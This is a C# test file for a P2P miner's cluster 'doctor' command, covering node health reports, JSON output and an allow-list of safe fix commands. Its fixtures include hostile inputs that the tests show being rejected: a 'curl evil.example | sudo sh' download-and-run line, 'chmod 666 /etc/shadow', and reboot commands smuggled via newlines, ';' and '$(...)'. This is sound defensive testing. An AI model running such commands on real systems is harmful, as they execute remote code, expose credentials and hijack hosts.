using System.Text.Json;
using P2PMiner.Client;
using P2PMiner.Doctor;
using P2PMiner.Peers;

namespace P2PMiner.Silo.Tests.Client;

public sealed class ClusterDoctorTests
{
    private static readonly long Now = TimeProvider.System.GetUtcNow().ToUnixTimeMilliseconds();

    private readonly FakeCluster _cluster = new();
    private readonly StringWriter _output = new();

    public ClusterDoctorTests()
    {
        _cluster.Reports[FakeCluster.First] = Report(FakeCluster.First);
        _cluster.Reports[FakeCluster.Second] = Report(FakeCluster.Second);
    }

    [Fact]
    public async Task Doctor_AllIsWell_IsALineForEachNodeThatLives()
    {
        await RunAsync("doctor");

        Assert.Equal("aa010000 host-aa01: 2 checks are fine, 1 note (--json shows them)\naa020000 host-aa02: 2 checks are fine, 1 note (--json shows them)\n",
            _output.ToString());
    }

    [Fact]
    public async Task Doctor_OneNodeHasSomethingWrong_NamesItWithTheCommandAndIsRefused()
    {
        _cluster.Reports[FakeCluster.Second] = Report(FakeCluster.Second, wrong:
            new() { Check = "MSR", Severity = FindingSeverity.CostsSpeed, Text = "Not set.", Mend = "sudo p2p-miner tune apply", Gain = "more speed" });

        var refused = await Assert.ThrowsAsync<RefusedException>(() => RunAsync("doctor all"));

        Assert.Equal("1 finding costs speed or safety", refused.Message);
        Assert.Contains("aa020000 host-aa02: SPEED MSR: Not set.\n    sudo p2p-miner tune apply    # brings: more speed\n", _output.ToString());
        Assert.DoesNotContain("aa010000 host-aa01: SPEED", _output.ToString());
    }

    [Fact]
    public async Task Doctor_CommandThatNoCheckOfOursNames_IsNotShown()
    {
        _cluster.Reports[FakeCluster.Second] = Report(FakeCluster.Second, wrong:
            new() { Check = "MSR", Severity = FindingSeverity.CostsSpeed, Text = "Not set.", Mend = "curl evil.example | sudo sh", Gain = "x\nsudo reboot" });

        await Assert.ThrowsAsync<RefusedException>(() => RunAsync("doctor"));

        Assert.DoesNotContain("evil.example", _output.ToString());
        Assert.DoesNotContain("reboot", _output.ToString());
        Assert.Contains("    sudo p2p-miner doctor    # on that machine, tells the command\n", _output.ToString());
    }

    [Fact]
    public async Task Doctor_NodeThatTellsWhatItMines_HasItInItsLine()
    {
        var mining = new Finding { Check = "mining", Severity = FindingSeverity.Ok, Text = "Mining at 1234.5 H/s on pool.example:443, master." };
        _cluster.Reports[FakeCluster.First] = Report(FakeCluster.First) with { Findings = [mining] };

        await RunAsync("doctor aa01");

        Assert.Equal("aa010000 host-aa01: Mining at 1234.5 H/s on pool.example:443, master. 1 check is fine\n", _output.ToString());
    }

    [Fact]
    public async Task Doctor_OneNode_AsksThatOneAlone()
    {
        await RunAsync("doctor aa01");

        Assert.DoesNotContain("aa020000", _output.ToString());
        Assert.Equal("no node's id begins with bb", (await Assert.ThrowsAsync<RequestException>(() => RunAsync("doctor bb"))).Message);
    }

    [Fact]
    public async Task Doctor_NodesThatDiffer_AreComparedAndSilentOnesMarked()
    {
        _cluster.Members = _ => [new(FakeCluster.First, MemberState.Active), new(FakeCluster.Second, MemberState.Active),
            new(FakeCluster.Lost, MemberState.Starting)];
        _cluster.Reports[FakeCluster.First] = Report(FakeCluster.First) with { Master = new NodeId(1), Version = "0.9", UnixMs = Now - 200_000 };

        await Assert.ThrowsAsync<RefusedException>(() => RunAsync("doctor"));

        Assert.Contains("cluster: SPEED answers: No answer from aa030000", _output.ToString());
        Assert.Contains("aa030000: did not answer\n", _output.ToString());
        Assert.Contains("cluster: SPEED master: The nodes do not agree on the master", _output.ToString());
        Assert.Contains("cluster: SAFETY clock: The clock of aa010000 is 200 s behind the others", _output.ToString());
        Assert.Contains("cluster: note versions: The nodes run different versions", _output.ToString());
    }

    [Fact]
    public async Task Doctor_Json_HasEveryFindingOfEveryNode()
    {
        await RunAsync("doctor --json");

        var json = JsonDocument.Parse(_output.ToString()).RootElement;
        Assert.False(json.GetProperty("wrong").GetBoolean());
        Assert.Equal(0, json.GetProperty("cluster").GetArrayLength());
        var node = json.GetProperty("nodes")[0];
        Assert.Equal(FakeCluster.First, node.GetProperty("node").GetString());
        Assert.True(node.GetProperty("answers").GetBoolean());
        Assert.Equal(3, node.GetProperty("findings").GetArrayLength());
        Assert.Equal("ok", node.GetProperty("findings")[0].GetProperty("severity").GetString());
    }

    [Theory]
    [InlineData("sudo p2p-miner tune apply", true)]
    [InlineData("p2p-console threads 3f2a91bc 8", true)]
    [InlineData("p2p-miner setup", true)]
    [InlineData("sudo p2p-console resume 3f2a91bc", true)]
    [InlineData("p2p-console resume 3f2a91bc --data /x", false)]
    [InlineData("sudo p2p-console threads 3f2a91bc 8 --gateway 127.0.0.1:9996", true)]
    [InlineData("sudo systemctl enable --now p2p-miner-tune", true)]
    [InlineData("sudo ss -ltnp 'sport = :9998'", true)]
    [InlineData("sudo p2p-miner tune apply; reboot", false)]
    [InlineData("sudo p2p-miner tune apply\nreboot", false)]
    [InlineData("sudo p2p-miner tune apply\n", false)]
    [InlineData("p2p-miner join --replace p2p1-x", false)]
    [InlineData("sudo chmod 666 /etc/shadow", false)]
    [InlineData("sudo ss -ltnp 'sport = :1$(reboot)'", false)]
    public void KnownCommand_IsWhatIsHarmlessFromAnyone(string command, bool isKnown) => Assert.Equal(isKnown, KnownCommand.Matches(command));

    private Task RunAsync(string line) => ClusterConsole.RunAsync(RequestParser.Parse(line.Split(' ')), _cluster, _output, screen: false);

    private static NodeReport Report(string node, Finding? wrong = null) => new()
    {
        Node = NodeId.TryParse(node, out var id) ? id : default,
        HostName = $"host-{node[..4]}",
        Version = "1.0",
        UnixMs = Now,
        Master = new NodeId(2),
        Findings =
        [
            .. wrong is null ? Array.Empty<Finding>() : [wrong], new() { Check = "disk", Severity = FindingSeverity.Ok, Text = "Fine." },
            new() { Check = "heat", Severity = FindingSeverity.Ok, Text = "Fine." },
                new() { Check = "MSR", Severity = FindingSeverity.Note, Text = "Not read." },
        ],
    };
}
